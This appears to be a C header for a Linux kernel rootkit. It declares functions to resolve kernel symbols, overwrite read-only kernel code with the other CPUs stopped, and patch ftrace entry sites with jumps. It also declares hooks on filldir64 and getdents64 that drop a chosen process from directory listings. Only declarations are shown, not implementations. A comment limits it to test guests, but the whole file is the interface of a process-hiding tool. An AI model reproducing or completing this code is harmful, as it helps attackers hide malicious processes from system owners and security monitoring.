/* What the tricks share: names of the kernel, writes to what is read-only, and filters that leave
 * one process out of listings. Only for test guests. */
#pragma once

#include <linux/fs.h>
#include <linux/types.h>

/* The address of any symbol of the kernel, 0: it has none of that name. */
unsigned long lookup(const char *symbol);

/* Write bytes over the kernel's text or read-only data, through a second mapping of its pages, with
 * the other CPUs stopped. 0 or negative errno. */
int poke(void *where, const void *bytes, size_t count);

/* The ftrace site (a 5-byte NOP) at the beginning of a function, NULL: there is none, or it is in
 * use. */
u8 *entry_nop(const char *symbol);
/* The bytes of a jump from `site` to `target`. */
void make_jump(u8 jump[5], const u8 *site, const void *target);

/* Which process the filters leave out. */
void filter_pid(int pid);

/* filldir64(), each entry of a folder passes it, without the process. `real_filldir`: where the
 * rest of it is, behind the call that brings here. */
typedef bool filldir_fn(struct dir_context *ctx, const char *entry, int len, loff_t offset, u64 ino,
			unsigned int type);
filldir_fn filter_entry;
extern filldir_fn *real_filldir;
bool is_filtered(const char *entry, int len);

/* __x64_sys_getdents64(), without the process in what it left in the caller's buffer. */
struct pt_regs;
typedef long syscall_fn(const struct pt_regs *regs);
syscall_fn filter_getdents;
extern syscall_fn *real_getdents;
